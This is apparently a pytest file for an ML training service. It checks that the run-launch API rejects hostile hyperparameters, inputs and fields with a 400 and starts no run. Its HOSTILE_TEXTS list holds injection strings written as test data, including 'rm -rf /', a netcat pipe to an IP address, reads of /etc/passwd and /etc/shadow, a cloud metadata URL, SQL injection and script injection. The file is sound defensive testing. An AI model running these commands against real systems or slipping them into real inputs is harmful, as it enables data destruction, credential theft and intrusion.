"""Every field of a launch, given what an attacker would give: 400, named, nothing begun."""

import math

import pytest

from labeling.errors import Refused
from tests.cast import client_of
from training.ml.hyperparameters import describe
from training.models import Run, RunInput
from training.services.run_requests import RunRequest
from training.services.runs import request_run
from training.services.stages import STAGES

pytestmark = pytest.mark.django_db

HOSTILE_TEXTS = (
    "; rm -rf /",
    "$(id)",
    "`id`",
    "| nc 10.0.0.1 4444",
    "&& reboot",
    "../../etc/passwd",
    "/etc/shadow",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "--nproc_per_node=9999",
    "' OR 1=1 --",
    "{{7*7}}",
    "\x00",
    "\u202e",
    "",
    " ",
    "NaN",
    "1e999",
    "0x10",
    "٣",
    "x" * 100_000,
)
ABSURD_NUMBERS = (math.nan, math.inf, -math.inf, 1e308, -1e308, 10**30, -(10**30), -1)
OTHER_SHAPES = ([1], {"a": 1}, None)
FIELDS = [(stage, field) for stage in STAGES for field in describe(stage)]


def refused_fields(ada, stage, name, value):
    """The fields named for this one hyperparameter; None where it was taken."""
    request = RunRequest(stage=stage, inputs={}, hyperparameters={name: value})
    with pytest.raises(Refused) as refusal:
        request_run(by=ada, request=request)
    assert (refusal.value.code, refusal.value.status) == ("invalid_run", 400)
    return refusal.value.fields


@pytest.mark.parametrize(
    ("stage", "field"), FIELDS, ids=[f"{stage}.{field.name}" for stage, field in FIELDS]
)
def test_no_hyperparameter_takes_text_that_is_none_of_its_words(ada, stage, field):
    for text in HOSTILE_TEXTS:
        assert f"hyperparameters.{field.name}" in refused_fields(ada, stage, field.name, text)

    assert not Run.objects.exists()


@pytest.mark.parametrize(
    ("stage", "field"), FIELDS, ids=[f"{stage}.{field.name}" for stage, field in FIELDS]
)
def test_no_hyperparameter_takes_an_absurd_number(ada, stage, field):
    for number in ABSURD_NUMBERS:
        assert f"hyperparameters.{field.name}" in refused_fields(ada, stage, field.name, number)

    assert not Run.objects.exists()


def post(person, body):
    return client_of(person).post("/api/runs/", body, format="json")


@pytest.mark.parametrize("text", [text for text in HOSTILE_TEXTS if len(text) < 1_000])
def test_an_input_is_an_id_and_nothing_else(ada, reward_model_body, text):
    inputs = reward_model_body["inputs"] | {"base_model": text}

    answer = post(ada, reward_model_body | {"inputs": inputs})

    assert answer.status_code == 400
    assert "inputs.base_model" in answer.json()["fields"]
    assert not Run.objects.exists()


@pytest.mark.parametrize("field", ["seed", "priority", "stage"])
@pytest.mark.parametrize("value", [*HOSTILE_TEXTS[:12], 10**18, -(10**18), *OTHER_SHAPES[:2]])
def test_every_other_field_is_named(ada, reward_model_body, field, value):
    answer = post(ada, reward_model_body | {field: value})

    assert answer.status_code == 400
    assert field in answer.json()["fields"]
    assert not Run.objects.exists()


def test_a_role_that_the_stage_does_not_have_is_named(ada, reward_model_body, base_model):
    inputs = reward_model_body["inputs"] | {"../../etc": str(base_model.pk)}

    answer = post(ada, reward_model_body | {"inputs": inputs})

    assert list(answer.json()["fields"]) == ["inputs.../../etc"]
    assert not RunInput.objects.exists()


@pytest.mark.parametrize("name", ["$(id)", "../../x", "-a b", "<script>alert(1)</script>"])
def test_a_name_is_text_and_reaches_no_command_line(ada, reward_model_body, name):
    """It may be any line: it stands in the row and on the page, never in a path or an argument."""
    answer = post(ada, reward_model_body | {"name": name})

    assert answer.status_code == 201
    run = Run.objects.get()
    assert run.name == name
    assert name not in str(run.spec)
